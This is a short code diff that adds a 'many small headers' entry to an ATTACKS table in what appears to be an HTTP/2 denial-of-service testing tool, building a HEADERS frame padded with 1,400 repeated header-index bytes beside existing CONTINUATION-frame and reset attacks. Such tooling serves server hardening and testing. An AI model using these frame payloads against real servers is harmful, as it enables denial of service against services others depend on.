@@ -87,6 +87,9 @@ ATTACKS: dict[str, Callable[[int], bytes]] = {
         + ContinuationFrame(number, flags=["END_HEADERS"]).serialize()
         + _reset(number)
     ),
+    "many small headers": lambda number: HeadersFrame(
+        number, data=REQUEST + b"\x93" * 1_400, flags=["END_HEADERS", "END_STREAM"]
+    ).serialize(),
     "churn": _headers,
 }
 
